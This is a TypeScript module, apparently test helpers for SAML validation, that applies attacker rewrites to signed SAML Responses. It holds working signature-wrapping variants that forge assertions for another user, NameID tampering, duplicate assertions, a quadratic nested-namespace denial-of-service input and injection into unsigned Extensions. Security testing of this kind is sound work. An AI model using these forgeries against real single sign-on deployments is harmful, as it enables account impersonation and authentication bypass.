// XML rewrites an attacker applies to a signed SAML Response (signature wrapping and friends).
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

const SAMLP = 'urn:oasis:names:tc:SAML:2.0:protocol';
const SAML = 'urn:oasis:names:tc:SAML:2.0:assertion';
const DS = 'http://www.w3.org/2000/09/xmldsig#';

function parse(xml: string): Document {
  return new DOMParser().parseFromString(xml, 'text/xml');
}
function serialize(doc: Document): string {
  return new XMLSerializer().serializeToString(doc);
}
function only(parent: Document | Element, ns: string, local: string): Element {
  const found = parent.getElementsByTagNameNS(ns, local);
  if (found.length < 1) throw new Error(`no ${local}`);
  return found[0]!;
}
function directChild(parent: Element, ns: string, local: string): Element | undefined {
  return Array.from(parent.childNodes).find(
    (n): n is Element => n.nodeType === 1 && (n as Element).namespaceURI === ns && (n as Element).localName === local,
  );
}
/** A copy of the assertion naming someone else, its ID changed and its signature dropped (unless kept). */
function evilAssertion(original: Element, nameId: string, keepSignatureAndId = false): Element {
  const evil = original.cloneNode(true) as Element;
  only(evil, SAML, 'NameID').textContent = nameId;
  for (const a of Array.from(evil.getElementsByTagNameNS(SAML, 'AttributeValue'))) {
    if (/@/.test(a.textContent ?? '')) a.textContent = nameId;
  }
  if (!keepSignatureAndId) {
    evil.setAttribute('ID', `_evil${Date.now()}`);
    const sig = directChild(evil, DS, 'Signature');
    if (sig) evil.removeChild(sig);
  }
  return evil;
}

/** XSW 1: an unsigned evil assertion placed before the original signed one. */
export function xswEvilFirst(xml: string, nameId: string): string {
  const doc = parse(xml);
  const original = only(doc, SAML, 'Assertion');
  original.parentNode!.insertBefore(evilAssertion(original, nameId), original);
  return serialize(doc);
}

/** XSW 2: the evil assertion takes the original's place and wraps the signed original inside it. */
export function xswOriginalInsideEvil(xml: string, nameId: string): string {
  const doc = parse(xml);
  const original = only(doc, SAML, 'Assertion');
  const evil = evilAssertion(original, nameId);
  original.parentNode!.replaceChild(evil, original);
  evil.appendChild(original);
  return serialize(doc);
}

/** XSW 3: the evil assertion keeps the original's ID and signature; the original hides in samlp:Extensions. */
export function xswOriginalInExtensions(xml: string, nameId: string): string {
  const doc = parse(xml);
  const root = doc.documentElement!;
  const original = only(doc, SAML, 'Assertion');
  const evil = evilAssertion(original, nameId, true);
  root.replaceChild(evil, original);
  const extensions = doc.createElementNS(SAMLP, 'samlp:Extensions');
  extensions.appendChild(original);
  const status = directChild(root, SAMLP, 'Status')!;
  root.insertBefore(extensions, status);
  return serialize(doc);
}

/** XSW 4 (signed Response): an evil Response root carrying the signature, the signed original inside its ds:Object. */
export function xswResponseInSignatureObject(xml: string, nameId: string): string {
  const doc = parse(xml);
  const originalRoot = doc.documentElement!;
  const evilRoot = originalRoot.cloneNode(true) as Element;
  const evilAssertionEl = only(evilRoot, SAML, 'Assertion');
  evilRoot.replaceChild(evilAssertion(evilAssertionEl, nameId, true), evilAssertionEl);
  const signature = directChild(evilRoot, DS, 'Signature')!;
  const object = doc.createElementNS(DS, 'ds:Object');
  object.appendChild(originalRoot.cloneNode(true));
  signature.appendChild(object);
  doc.replaceChild(evilRoot, originalRoot);
  return serialize(doc);
}

/** Replaces the text of the first NameID (after signing: the signature no longer matches). */
export function replaceNameId(xml: string, nameId: string): string {
  const doc = parse(xml);
  only(doc, SAML, 'NameID').textContent = nameId;
  return serialize(doc);
}

/** Appends a second copy of the assertion (new ID) inside the Response, before signing. */
export function duplicateAssertion(xml: string): string {
  const doc = parse(xml);
  const original = only(doc, SAML, 'Assertion');
  const copy = original.cloneNode(true) as Element;
  copy.setAttribute('ID', `${original.getAttribute('ID')}-2`);
  original.parentNode!.appendChild(copy);
  return serialize(doc);
}

/** Trap 11's shape: `n` elements nested, each declaring a new namespace prefix (quadratic in xmldom). */
export function nestedNamespaceDeclarations(n: number): string {
  let open = '';
  let close = '';
  for (let i = 0; i < n; i++) {
    open += `<p${i}:e xmlns:p${i}="urn:x:${i}">`;
    close = `</p${i}:e>${close}`;
  }
  return open + close;
}

/** Puts `payload` in a samlp:Extensions element of the Response, outside what an assertion signature covers. */
export function inResponseExtensions(xml: string, payload: string): string {
  return xml.replace(/(<samlp:Status>)/, `<samlp:Extensions>${payload}</samlp:Extensions>$1`);
}
